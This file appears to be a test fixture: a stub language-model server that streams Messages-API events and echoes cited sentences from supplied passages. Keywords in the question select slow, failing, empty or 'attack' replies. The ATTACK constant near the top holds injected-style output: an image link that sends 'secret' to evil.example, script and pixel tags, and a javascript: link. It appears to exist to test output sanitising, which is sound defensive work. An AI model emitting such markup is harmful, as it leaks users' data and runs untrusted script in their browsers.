/**
 * A language model on loopback that speaks the Messages API: it says back what the passages say, word by word, at the
 * pace that the question asks for. `slowly` takes its time, `fail` breaks off, `unknown` finds nothing, `attack` tries
 * what a document might have told it to.
 */

import { createServer, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";

interface Question {
  stream?: boolean;
  messages?: { role: string; content: string | { type: string; text?: string }[] }[];
}

export interface Model {
  url: string;
  close: () => Promise<void>;
}

const ATTACK = [
  "Look ![here](https://evil.example/leak?q=secret) and ![there](data:image/png;base64,AAAA).",
  '<img src="https://evil.example/pixel.png"><script src="https://evil.example/x.js"></script>',
  "[A link](https://evil.example/page) and [another](javascript:alert(1)).",
].join("\n\n");

export async function startModel(): Promise<Model> {
  const server: Server = createServer(async (request, response) => {
    let body = "";
    for await (const chunk of request) body += chunk;
    if (request.method === "GET") {
      response.writeHead(200, { "Content-Type": "application/json" });
      return response.end(JSON.stringify({ data: [], has_more: false, first_id: null, last_id: null }));
    }
    return answer(JSON.parse(body) as Question, response);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

function textOf(question: Question): string {
  const last = question.messages?.at(-1)?.content ?? "";
  return typeof last === "string" ? last : last.map((block) => block.text ?? "").join("\n");
}

async function answer(question: Question, response: ServerResponse): Promise<void> {
  const text = textOf(question);
  const asked = text.replace(/<passages>[\s\S]*<\/passages>/, "");
  const pause = asked.includes("slowly") ? 120 : 12;
  response.writeHead(200, { "Content-Type": "text/event-stream" });
  const send = (type: string, data: object) =>
    response.write(`event: ${type}\ndata: ${JSON.stringify({ type, ...data })}\n\n`);
  const usage = { input_tokens: 10, output_tokens: 1 };
  send("message_start", {
    message: {
      id: "m",
      type: "message",
      role: "assistant",
      content: [],
      model: "stub",
      stop_reason: null,
      stop_sequence: null,
      usage,
    },
  });
  send("content_block_start", { index: 0, content_block: { type: "text", text: "" } });
  const words = sayingBack(asked, passagesOf(text)).split(/(?<= )/);
  for (const [index, word] of words.entries()) {
    if (response.destroyed) return;
    if (asked.includes("fail") && index === 6) {
      send("error", { error: { type: "overloaded_error", message: "Overloaded" } });
      response.end();
      return;
    }
    send("content_block_delta", { index: 0, delta: { type: "text_delta", text: word } });
    await new Promise((resolve) => setTimeout(resolve, pause));
  }
  send("content_block_stop", { index: 0 });
  send("message_delta", {
    delta: { stop_reason: "end_turn", stop_sequence: null },
    usage: { output_tokens: words.length },
  });
  send("message_stop", {});
  response.end();
}

function passagesOf(text: string): { number: string; sentences: string[] }[] {
  return [...text.matchAll(/<passage number="(\d+)"[^>]*>\n([\s\S]*?)\n<\/passage>/g)].map((match) => ({
    number: match[1] ?? "",
    sentences: (match[2] ?? "")
      .split("\n\n")
      .filter((paragraph) => !paragraph.startsWith("#"))
      .flatMap((paragraph) => paragraph.match(/[A-Z][^.!?]{15,}[.!?]/g) ?? [])
      .map((sentence) => sentence.replaceAll("\n", " ")),
  }));
}

function sayingBack(asked: string, passages: ReturnType<typeof passagesOf>): string {
  if (asked.includes("attack")) return ATTACK;
  if (asked.includes("unknown") || passages.length === 0)
    return "<unanswered>Your sources do not say anything about this.";
  const words = new Set(asked.toLowerCase().match(/[a-z]{4,}/g) ?? []);
  const overlap = (sentence: string) =>
    (sentence.toLowerCase().match(/[a-z]{4,}/g) ?? []).filter((word) => words.has(word)).length;
  const best = passages
    .flatMap(({ number, sentences }) => sentences.map((sentence) => ({ number, sentence, score: overlap(sentence) })))
    .toSorted((a, b) => b.score - a.score)
    .slice(0, asked.includes("slowly") ? 8 : 3);
  const said = best.map(({ number, sentence }) => `${sentence.replace(/[.!?]$/, "")} [${number}].`);
  return [said[0] ?? "Nothing.", ...said.slice(1).map((sentence) => `- ${sentence}`)].join("\n\n");
}
